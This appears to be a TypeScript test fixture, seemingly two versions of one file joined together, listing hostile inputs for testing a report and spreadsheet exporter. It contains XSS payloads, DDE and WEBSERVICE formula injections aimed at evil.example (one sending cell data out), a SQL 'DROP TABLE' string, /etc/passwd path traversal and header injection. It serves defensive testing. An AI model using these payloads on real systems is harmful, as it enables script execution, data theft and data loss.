// Texts that somebody may write into a cell to make a report do what it must not: run a script, follow an address,
// be a formula, hide or reorder what stands beside it.
const MARKUP = [
  "<script>document.title='ran'</script>",
  "<img src=x onerror=\"document.title='ran'\">",
  "<svg onload=\"document.title='ran'\">",
  "</td></tr></table><h1>Everything released</h1>",
  "</title><script>document.title='ran'</script>",
  "</style><script>document.title='ran'</script>",
  "<iframe src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example/><input name=x>",
  "<!-- ",
  "]]>",
  "<![CDATA[",
  "&lt;script&gt;",
  "&#60;script&#62;",
  "\" onmouseover=\"document.title='ran'",
  "' onfocus='document.title=1' autofocus='",
  "<plaintext>",
  "<textarea>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<math><mi xlink:href=javascript:alert(1)>",
  "{{7*7}}",
  "${7*7}",
];
const FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example")', "\t=1+1"];
const ODD = [
  "\u0000",
  "\u001b[31mred",
  "\u202Egnp.exe",
  "\ud800",
  "\uffff",
  "a\u200bb",
  "\u2028line",
  "_x0041_",
  "x".repeat(40_000),
  "\r\nSet-Cookie: x",
  " outer ",
  "日本語 😀 ذهب",
];

/** Some 200 of them, no two alike. */
export const hostileTexts: readonly string[] = [MARKUP, FORMULAS, ODD]
  .flat()
  .flatMap((text, at) => [
    text,
    `REF-${String(at)} ${text}`,
    `${text} ${String(at)}`,
    `"${text}`,
    `${text}\n${text}`,
  ]);
// Texts that programs like to take for something else than a text: 200 of them, no two alike.

const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://evil.example","click")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML("http://evil.example","//a")',
  "{=SUM(A1:A9)}",
  "=Shipments!A1",
  "='[other.xlsx]Sheet1'!A1",
  "of:=1+1",
  "=1/0",
  '=INDIRECT("A"&1)',
  "=SUM(1;2)",
];
const starts = ["'", "''", " ", "\t", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u00ad", '"'];
const cells = [
  ...[
    "0012345",
    "1e3",
    "1E+10",
    "1,5",
    "1.5",
    "-7",
    "+7",
    "1 000",
    "50%",
    "€ 5",
    "$5",
    "1/2",
    "3-4",
  ],
  ...[
    "2026-03-01",
    "01.03.2026",
    "03/01/26",
    "12:30",
    "TRUE",
    "FALSE",
    "wahr",
    "#N/A",
    "#REF!",
    "#DIV/0!",
  ],
  ...[
    "A1",
    "$A$1",
    "R1C1",
    "Sheet1!A1",
    "Shipments",
    "=",
    "+",
    "-",
    "@",
    "'",
    "",
    "NULL",
    "NaN",
    "Infinity",
  ],
];
const addresses = [
  ...[
    "http://evil.example/?a=1&b=2",
    "https://evil.example#x",
    "mailto:a@b.example",
    "file:///etc/passwd",
  ],
  ...[
    "\\\\evil\\share\\x.xlsx",
    "javascript:alert(1)",
    "#Shipments!A1",
    "#'Shipments'!A1",
    "ftp://evil.example",
  ],
];
const markup = [
  ...[
    "<script>alert(1)</script>",
    "</v></c><c><f>1+1</f></c>",
    "]]>",
    "<![CDATA[x]]>",
    "&amp;",
    "&#61;1+1",
    "&lt;",
  ],
  ...["<!-- x -->", "<?xml?>", "\"'<>&", "${x}", "{{x}}", "%s%n", "'; DROP TABLE lines; --"],
];
const escapes = [
  "_x0041_",
  "_x003D_1+1",
  "_x005F_x0041_",
  "_X0041_",
  "__x0041__",
  "_x000D_",
  "_x0000_",
  "_xD83D_",
];
const unseen = [
  ...[
    "\u0000",
    "a\u0007b",
    "\u001b[31mred\u001b[0m",
    "a\u0085b",
    "\u007f",
    "\u2028",
    "\u2029",
    "\u202eevil\u202c",
  ],
  ...[
    "\u061c1",
    "\u200f=1+1",
    "\u2066x\u2069",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "\ud800",
    "\udc00x",
    "x\udbff",
    "\u{e0041}",
  ],
  ...[
    "\u200d=1+1",
    "e\u0301",
    "\u0301",
    "🚢",
    "👩‍👩‍👧",
    "北京",
    "العربية",
    "עברית =1+1",
    "ｔｅｘｔ",
    "\u3000x\u3000",
  ],
];
const wide = ["＝1+1", "＋1", "－1", "＠SUM(1)", "\uff1d\uff1d", "﹦1", "⁼1+1"];
const shapes = [
  ..."two\nlines|a\r\nb|a\rb|a\tb|\ta|a\t|  both  |\n|\n\n|a\n=1+1|a;=1+1|a,=1+1|a|b".split("|"),
  ...[
    "x".repeat(255),
    "x".repeat(8_193),
    "=".repeat(300),
    "x".repeat(40_000),
    "word ".repeat(2_000),
  ],
  ...[
    '"quoted"',
    'a"b',
    "'a'",
    "`cas-batch resume`",
    "C:\\Temp\\=x",
    "../../etc/passwd",
    "CON",
    "a/b:c*d?e",
  ],
];

export const hostileTexts: readonly string[] = [
  ...new Set([
    ...formulas,
    ...starts.flatMap((start) => formulas.slice(0, 8).map((formula) => start + formula)),
    ...[cells, addresses, markup, escapes, unseen, wide, shapes].flat(),
  ]),
];
